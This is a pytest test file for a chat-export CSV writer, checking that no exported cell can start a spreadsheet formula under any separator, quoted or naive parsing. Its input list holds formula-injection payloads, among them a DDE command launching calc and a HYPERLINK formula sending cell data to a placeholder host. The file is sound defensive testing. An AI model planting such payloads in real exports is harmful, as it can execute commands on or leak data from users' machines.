"""The CSV writer against formula injection: every field quoted, and no cell a spreadsheet could read as a
formula, whatever separator it splits on and whether or not it honours the quotes."""
from __future__ import annotations

import csv
import io
import random
import re
import sys
import unicodedata
from datetime import timedelta

import pytest

from pipelines.exports.writers import FORMULA_CHARS, build_record, neutralise, restore, write_csv
from schemas.common import new_id, utcnow
from schemas.documents import Edit, Message, MessageMetadata, Quote, Reaction, SenderInfo

# Texts people could write, each putting a formula where some spreadsheet would start a cell.
NASTY = [
    "hi;=cmd|' /C calc'!A0",                  # the issue's example: French Excel splits on ";"
    "=HYPERLINK(\"http://x.test/?\"&A1,\"click\")", "@SUM(1+1)", "+33 6 12 34 56 78", "-2+3",
    "a,=1+1", "a;+1", "a\t@x", "line\n=1+1", "line\r\n-1", "line\r@x", "a; =1", "a;\"=1\"", 'a;""=1',
    "\t=1", "\r=1", "\n=1", "\x00=1", " =1", "\"=1", "'=1", "''=1", "a;'=1", "a;\t=1", "=\n=\n=",
    "＝1+1", "a;＋1", "﹦1", "⁼1", "x,＠y", "- item\n- item",
    "'plain apostrophe'", "-", ";", ";=", "=;=", ",,,=", "\t", "",
]
SEPARATORS = [",", ";", "\t"]
LINE_BREAKS = re.compile(r"\r\n|\r|\n")
TRIMMED = " \"\t\r\n\x00"   # what a spreadsheet may drop before it looks at a cell's first character


def _record(seq: int, text: str) -> dict:
    """A stored message carrying ``text`` in every column that holds a person's text."""
    now = utcnow() + timedelta(seconds=seq)
    sender = SenderInfo(username="alice", fname=text, lname="")
    parent = Message(id=new_id(), convId="c", seq=1, clientId="p", senderId="u2",
                     senderInfo=SenderInfo(username="bob"), content=text, createdAt=now, updatedAt=now)
    doc = Message(id=new_id(), convId="c", seq=seq, clientId=f"c{seq}", senderId="u1", senderInfo=sender,
                  content=text, createdAt=now, updatedAt=now, isEdited=True, editedAt=now,
                  editHistory=[Edit(content=text, replacedAt=now)],
                  reactions=[Reaction(userId="u2", emoji="👍", at=now)],
                  metadata=MessageMetadata(replyTo=parent.id, quote=Quote.of(parent), files=[{
                      "mediaId": "m" * 24, "filename": text, "mimeType": "text/plain", "fileType": "document",
                      "fileSize": 1, "status": "ready"}])).to_mongo()
    return build_record(doc, usernames={"u2": "bob"}, include_deleted=False)


@pytest.fixture(scope="module")
def exported() -> str:
    sink = io.BytesIO()
    write_csv([_record(seq, text) for seq, text in enumerate(NASTY, 2)], sink, timezone="Europe/Paris")
    data = sink.getvalue()
    assert data.startswith(b"\xef\xbb\xbf")
    return data.decode("utf-8-sig")


def _formula(cell: str) -> bool:
    return cell.lstrip(TRIMMED)[:1] in set(FORMULA_CHARS)


@pytest.mark.parametrize("separator", SEPARATORS)
def test_no_cell_starts_a_formula_when_split_naively_on_any_separator(exported, separator):
    """A spreadsheet that ignores quotes and splits rows on any line break and cells on ``separator``."""
    cells = [cell for line in LINE_BREAKS.split(exported) for cell in line.split(separator)]
    assert len(cells) > len(NASTY) * 2
    assert [c for c in cells if _formula(c)] == []


@pytest.mark.parametrize("separator", SEPARATORS)
@pytest.mark.parametrize("skip_spaces", [False, True])
def test_no_cell_starts_a_formula_when_read_with_quotes_on_any_separator(exported, separator, skip_spaces):
    rows = list(csv.reader(io.StringIO(exported, newline=""), delimiter=separator, skipinitialspace=skip_spaces))
    assert len(rows) > len(NASTY)
    assert [c for row in rows for c in row if _formula(c)] == []


def test_every_field_is_quoted_and_reads_back_to_what_was_written(exported):
    header, *_ = exported.split("\r\n", 1)
    assert re.fullmatch(r'"[a-z_]+"(,"[a-z_]+")*', header)
    rows = list(csv.reader(io.StringIO(exported, newline="")))[1:]
    assert len(rows) == len(NASTY)
    for row, text in zip(rows, NASTY):
        # content, edits and the reply's excerpt hold the text alone; restore() takes the apostrophes off
        assert restore(row[6]) == restore(row[12]) == text
        assert restore(row[9]) == Quote.of(_message(text)).excerpt
    field = r'"(?:[^"]|"")*"'
    assert re.fullmatch(rf"(?:{field}(?:,{field})*\r\n)+", exported)   # every field quoted, rows end in CRLF


def _message(text: str) -> Message:
    now = utcnow()
    return Message(id="x", convId="c", seq=1, clientId="x", senderId="u", senderInfo=SenderInfo(username="bob"),
                   content=text, createdAt=now, updatedAt=now)


def test_the_issues_example_opens_as_text_in_french_excel(exported):
    line = next(line for line in exported.split("\r\n") if "calc" in line)
    assert "hi;'=cmd|' /C calc'!A0" in line
    assert [c for c in line.split(";") if _formula(c)] == []
    assert neutralise("=1+1") == "'=1+1" and neutralise("well-known, fine") == "well-known, fine"


def test_neutralise_is_undone_by_restore_for_any_text():
    rnd = random.Random(7)
    alphabet = "ab '\"=+-@＝,;\t\r\n\x00"
    for _ in range(50_000):
        text = "".join(rnd.choice(alphabet) for _ in range(rnd.randint(0, 8)))
        assert restore(neutralise(text)) == text, repr(text)


def test_formula_characters_are_every_character_whose_compatibility_form_starts_one():
    starts = {chr(c) for c in range(sys.maxunicode + 1) if not 0xD800 <= c <= 0xDFFF
              and unicodedata.normalize("NFKC", chr(c))[:1] in ("=", "+", "-", "@")}
    assert set(FORMULA_CHARS) == starts
